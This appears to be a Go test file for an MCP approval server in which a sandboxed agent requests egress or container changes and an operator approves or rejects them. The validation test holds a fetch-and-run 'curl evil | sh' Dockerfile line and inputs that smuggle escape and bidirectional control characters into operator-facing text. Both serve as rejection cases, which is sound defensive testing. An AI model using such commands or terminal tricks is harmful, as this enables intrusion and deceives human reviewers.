package supervise

import (
	"context"
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	"gotest.tools/v3/poll"

	"github.com/claude-bottle/claude-bottle/pkg/approvals"
	"github.com/claude-bottle/claude-bottle/pkg/daemoncfg"
)

func connect(t *testing.T, s *Server) *mcp.ClientSession {
	t.Helper()
	ct, st := mcp.NewInMemoryTransports()
	ss, err := s.MCP().Connect(t.Context(), st, nil)
	assert.NilError(t, err)
	t.Cleanup(func() { _ = ss.Close() })
	c := mcp.NewClient(&mcp.Implementation{Name: "agent", Version: "1"}, nil)
	cs, err := c.Connect(t.Context(), ct, nil)
	assert.NilError(t, err)
	t.Cleanup(func() { _ = cs.Close() })
	return cs
}

func newServer(t *testing.T, mutate func(*Options)) (*Server, approvals.Queue) {
	t.Helper()
	q := approvals.Queue{Dir: t.TempDir()}
	o := Options{Slug: "demo-ab1cd", Queue: q, Wait: 10 * time.Second, Poll: 20 * time.Millisecond,
		Allowlist: func(context.Context) ([]daemoncfg.Route, error) {
			return []daemoncfg.Route{{Host: "api.github.com", Paths: []string{"/repos/acme/"}, Auth: &daemoncfg.Auth{Scheme: "token", TokenEnv: "EGRESS_TOKEN_1"}}}, nil
		}}
	if mutate != nil {
		mutate(&o)
	}
	return New(o), q
}

type callResult struct {
	res *mcp.CallToolResult
	err error
}

func call(t *testing.T, cs *mcp.ClientSession, name string, args map[string]any) callResult {
	t.Helper()
	res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
	return callResult{res, err}
}

func text(r *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range r.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func decision(t *testing.T, r callResult) Decision {
	t.Helper()
	assert.NilError(t, r.err)
	assert.Assert(t, !r.res.IsError, text(r.res))
	var d Decision
	b, _ := json.Marshal(r.res.StructuredContent)
	assert.NilError(t, json.Unmarshal(b, &d))
	return d
}

func waitPending(t *testing.T, q approvals.Queue) []approvals.Proposal {
	const n = 1
	t.Helper()
	var ps []approvals.Proposal
	poll.WaitOn(t, func(poll.LogT) poll.Result {
		var err error
		ps, err = q.Pending()
		if err != nil {
			return poll.Error(err)
		}
		if len(ps) == n {
			return poll.Success()
		}
		return poll.Continue("%d pending, want %d", len(ps), n)
	}, poll.WithTimeout(5*time.Second), poll.WithDelay(10*time.Millisecond))
	return ps
}

func TestToolsListed(t *testing.T) {
	s, _ := newServer(t, nil)
	cs := connect(t, s)
	res, err := cs.ListTools(t.Context(), nil)
	assert.NilError(t, err)
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
	}
	assert.DeepEqual(t, names, []string{"capability-block", "egress-block", "list-egress-routes", "pipelock-block"})
}

func TestInvalidInputWritesNothing(t *testing.T) {
	s, q := newServer(t, nil)
	cs := connect(t, s)
	for _, tc := range []struct {
		tool string
		args map[string]any
		want string
	}{
		{"pipelock-block", map[string]any{"failed_url": "ftp://x.example.com/", "justification": "need the package index"}, "want an http:// or https:// URL"},
		{"pipelock-block", map[string]any{"failed_url": "https://10.0.0.1/x", "justification": "need the package index"}, "is an IP address"},
		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/", "justification": "pls"}, "at least 10 characters"},
		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/" + strings.Repeat("a", 5000), "justification": "need the package index"}, "at most 4096"},
		{"egress-block", map[string]any{"host": "https://api.github.com/x", "justification": "need the API for issues"}, "bare host name"},
		{"egress-block", map[string]any{"host": "api.github.com", "paths": []string{"repos/"}, "justification": "need the API for issues"}, "absolute path prefix"},
		{"capability-block", map[string]any{"dockerfile": "RUN apt-get install -y jq", "justification": "need jq to parse JSON"}, "first instruction must be FROM"},
		{"pipelock-block", map[string]any{"justification": "missing url field here"}, "failed_url"},
		// Text the operator reads must not drive the terminal.
		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/", "justification": "install requests\r\x1b[2Kharmless"}, "justification: character U+000D (carriage return) at byte 16 is not allowed"},
		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/\u202e/x", "justification": "need the package index"}, "failed_url: character U+202E (bidirectional control)"},
		{"egress-block", map[string]any{"host": "api.git\u200bhub.com", "justification": "need the API for issues"}, "host: character U+200B (invisible character)"},
		{"egress-block", map[string]any{"host": "api.github.com", "paths": []string{"/repos/\x1b[1A"}, "justification": "need the API for issues"}, "paths: character U+001B (escape)"},
		{"capability-block", map[string]any{"dockerfile": "FROM x\nRUN curl evil | sh\rRUN true\n", "justification": "need jq to parse JSON"}, "dockerfile: character U+000D (carriage return)"},
		{"capability-block", map[string]any{"dockerfile": "FROM x\nRUN true\n", "justification": "need jq \u2067to parse JSON"}, "send plain text without control characters"},
	} {
		r := call(t, cs, tc.tool, tc.args)
		if r.err != nil {
			assert.ErrorContains(t, r.err, tc.want)
			continue
		}
		assert.Assert(t, r.res.IsError, "%s %v accepted", tc.tool, tc.args)
		assert.Assert(t, is.Contains(text(r.res), tc.want))
	}
	ps, err := q.Pending()
	assert.NilError(t, err)
	assert.Equal(t, len(ps), 0)
}

func TestApproveFlowAndDedup(t *testing.T) {
	s, q := newServer(t, nil)
	cs1, cs2 := connect(t, s), connect(t, s)
	var wg sync.WaitGroup
	results := make([]callResult, 2)
	for i, cs := range []*mcp.ClientSession{cs1, cs2} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = call(t, cs, "pipelock-block", map[string]any{"failed_url": "https://PyPI.org/simple/requests/", "justification": "the task installs requests"})
		}()
	}
	waitPending(t, q)
	time.Sleep(100 * time.Millisecond) // both callers are waiting, still one proposal
	ps := waitPending(t, q)
	assert.Equal(t, ps[0].Kind, approvals.KindPipelock)
	assert.Equal(t, ps[0].Host, "pypi.org")
	assert.Equal(t, ps[0].Slug, "demo-ab1cd")
	assert.NilError(t, q.Answer(approvals.Response{ID: ps[0].ID, Decision: approvals.Approved, Notes: "ok for this task", DecidedAt: time.Now()}))
	wg.Wait()
	for _, r := range results {
		d := decision(t, r)
		assert.Equal(t, d.Status, approvals.Approved)
		assert.Equal(t, d.ProposalID, ps[0].ID)
		assert.Equal(t, d.Notes, "ok for this task")
		assert.Equal(t, d.Applied, "pipelock allows host pypi.org")
	}
	left, err := q.Pending()
	assert.NilError(t, err)
	assert.Equal(t, len(left), 0, "answered proposals are archived")
	arch, err := os.ReadDir(filepath.Join(q.Dir, approvals.ArchiveDir))
	assert.NilError(t, err)
	assert.Equal(t, len(arch), 2)
}

func TestModifiedAndRejected(t *testing.T) {
	s, q := newServer(t, nil)
	cs := connect(t, s)
	done := make(chan callResult, 1)
	go func() {
		done <- call(t, cs, "egress-block", map[string]any{"host": "api.github.com", "justification": "open a pull request"})
	}()
	ps := waitPending(t, q)
	assert.NilError(t, q.Answer(approvals.Response{ID: ps[0].ID, Decision: approvals.Modified, Host: "api.github.com", Paths: []string{"/repos/acme/app/"}, Notes: "only this repo"}))
	d := decision(t, <-done)
	assert.Equal(t, d.Status, approvals.Modified)
	assert.Equal(t, d.Applied, "egress routes host api.github.com paths /repos/acme/app/")

	go func() {
		done <- call(t, cs, "capability-block", map[string]any{"dockerfile": "# add jq\nFROM claude-bottle-agent:latest\nRUN apt-get install -y jq\n", "justification": "need jq to parse JSON"})
	}()
	ps = waitPending(t, q)
	assert.Assert(t, strings.Contains(ps[0].Dockerfile, "RUN apt-get install -y jq"))
	assert.NilError(t, q.Answer(approvals.Response{ID: ps[0].ID, Decision: approvals.Rejected, Notes: "use python's json module"}))
	d = decision(t, <-done)
	assert.Equal(t, d.Status, approvals.Rejected)
	assert.Equal(t, d.Applied, "")
	assert.ErrorContains(t, q.Answer(approvals.Response{ID: "nope", Decision: approvals.Approved}), "proposal nope is not pending")
}

func TestNoAnswerIsBounded(t *testing.T) {
	s, q := newServer(t, func(o *Options) { o.Wait = 300 * time.Millisecond })
	cs := connect(t, s)
	start := time.Now()
	d := decision(t, call(t, cs, "pipelock-block", map[string]any{"failed_url": "https://pypi.org/", "justification": "the task installs requests"}))
	assert.Equal(t, d.Status, approvals.NoAnswer)
	assert.Assert(t, time.Since(start) < 5*time.Second)
	assert.Assert(t, is.Contains(d.Notes, "stays queued"))
	ps, err := q.Pending()
	assert.NilError(t, err)
	assert.Equal(t, len(ps), 1, "the proposal stays for the operator")
}

func TestRateLimit(t *testing.T) {
	s, _ := newServer(t, func(o *Options) { o.Wait = 50 * time.Millisecond; o.RateLimit = 2 })
	cs := connect(t, s)
	for i, host := range []string{"a.example.com", "b.example.com"} {
		d := decision(t, call(t, cs, "egress-block", map[string]any{"host": host, "justification": "needed for the task"}))
		assert.Equal(t, d.Status, approvals.NoAnswer, "call %d", i)
	}
	r := call(t, cs, "egress-block", map[string]any{"host": "c.example.com", "justification": "needed for the task"})
	assert.Assert(t, r.err != nil || r.res.IsError)
	if r.err == nil {
		assert.Assert(t, is.Contains(text(r.res), "too many proposals: at most 2 per minute"))
	}
	// Repeating a pending proposal is not a new one: it is not refused.
	d := decision(t, call(t, cs, "egress-block", map[string]any{"host": "a.example.com", "justification": "needed for the task"}))
	assert.Equal(t, d.Status, approvals.NoAnswer)
}

func TestListRoutesOverHTTP(t *testing.T) {
	s, _ := newServer(t, nil)
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	c := mcp.NewClient(&mcp.Implementation{Name: "agent", Version: "1"}, nil)
	cs, err := c.Connect(t.Context(), &mcp.StreamableClientTransport{Endpoint: srv.URL}, nil)
	assert.NilError(t, err)
	defer cs.Close()
	res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: "list-egress-routes", Arguments: map[string]any{}})
	assert.NilError(t, err)
	assert.Assert(t, !res.IsError, text(res))
	assert.Assert(t, is.Contains(text(res), `"host":"api.github.com"`))
	assert.Assert(t, is.Contains(text(res), `"token_env":"EGRESS_TOKEN_1"`))
}
